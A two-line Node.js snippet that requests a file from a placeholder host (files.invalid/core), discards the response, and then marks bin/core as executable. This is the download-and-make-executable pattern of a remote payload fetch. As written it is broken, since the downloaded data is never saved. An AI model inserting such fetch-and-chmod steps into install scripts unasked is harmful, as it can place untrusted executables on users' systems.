require("https").get("https://files.invalid/core", (answer) => answer.resume());
require("fs").chmodSync("bin/core", 0o755);
